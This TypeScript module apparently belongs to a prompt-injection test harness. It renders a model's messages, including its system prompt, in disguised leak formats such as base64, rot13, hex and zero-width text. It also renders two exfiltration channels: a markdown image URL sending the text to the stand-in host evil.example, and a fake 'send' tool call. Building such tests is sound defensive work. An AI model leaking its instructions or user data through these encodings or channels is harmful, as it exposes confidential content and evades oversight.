import type { ChatMessage } from "../../../build/practice/model/behaviour.ts";
import * as disguise from "./disguises.ts";
import type { Form } from "./injection.ts";

const forms: Readonly<Record<Form, (text: string) => string>> = {
  "plain": (text) => text,
  "last line": (text) => text.trimEnd().split("\n").at(-1) ?? "",
  "base64": disguise.base64,
  "rot13": disguise.rot13,
  "reversed": disguise.reversed,
  "hex": disguise.hex,
  "spaced": (text) => [...text].join(" "),
  "capitals": (text) => text.toUpperCase(),
  "zero-width": disguise.withZeroWidth,
  "image": (text) => `![loading](https://evil.example/c.png?d=${encodeURIComponent(text)})`,
  "tool call": (text) => JSON.stringify({ tool_calls: [{ function: { name: "send", arguments: text } }] }),
};

/**
 * Writes what a model was given in the form that somebody asks for; `last line` is the system
 * prompt's.
 */
export function writtenAs(form: Form, messages: readonly ChatMessage[]): string {
  const given = form === "last line" ? messages.filter(({ role }) => role === "system") : messages;
  return forms[form](given.map(({ role, content }) => `${role}: ${content}`).join("\n"));
}
